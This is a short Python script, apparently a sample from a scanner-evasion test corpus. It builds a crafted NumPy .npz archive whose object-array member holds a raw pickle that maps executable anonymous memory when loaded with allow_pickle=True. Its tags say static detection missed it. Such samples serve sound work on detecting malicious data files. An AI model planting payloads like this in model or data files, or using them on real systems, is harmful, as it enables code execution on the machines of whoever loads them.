# family: data_pickle
# reaches: native_code
# layer: static
# static: missed
# An .npz archive (a zip file) whose member is an object array: indexing the NpzFile returned by
# numpy.load(allow_pickle=True) unpickles it; the pickle maps anonymous executable memory.
import zipfile

import numpy as np

payload = b"cmmap\nmmap\n(I-1\nI4096\nI34\nI7\ntR."
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += b" " * (117 - len(header)) + b"\n"
member = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + payload

with zipfile.ZipFile("bundle.npz", "w") as z:
    z.writestr("weights.npy", member)

bundle = np.load("bundle.npz", allow_pickle=True)
print(bundle.files, bundle["weights"])
